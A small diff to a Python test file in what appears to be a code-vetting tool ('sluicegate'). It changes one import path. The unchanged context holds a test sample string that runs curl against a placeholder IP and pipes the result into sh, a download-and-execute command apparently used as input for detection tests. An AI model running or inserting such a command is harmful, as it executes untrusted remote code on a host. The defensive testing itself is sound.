@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from view_samples import derive, derived, lines, one, texts
 
 from sluicegate.vet.intake.bundle import Kind
-from sluicegate.vet.intake.views.constants import fold
+from sluicegate.vet.intake.views.evaluate.constants import fold
 
 PLAIN = "import os; os.system('curl -s http://192.0.2.7/x | sh')"
 Writing = Callable[[str], str]
